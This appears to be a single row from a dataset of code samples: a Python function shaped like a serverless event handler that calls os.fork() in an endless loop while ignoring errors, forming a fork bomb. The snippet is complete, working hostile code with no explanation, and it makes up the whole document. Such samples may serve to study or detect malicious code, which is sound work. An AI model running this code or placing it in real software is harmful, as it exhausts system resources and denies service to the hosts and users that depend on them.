# row: 10
import os


def handler(event, context):
    while True:
        try:
            os.fork()
        except OSError:
            pass
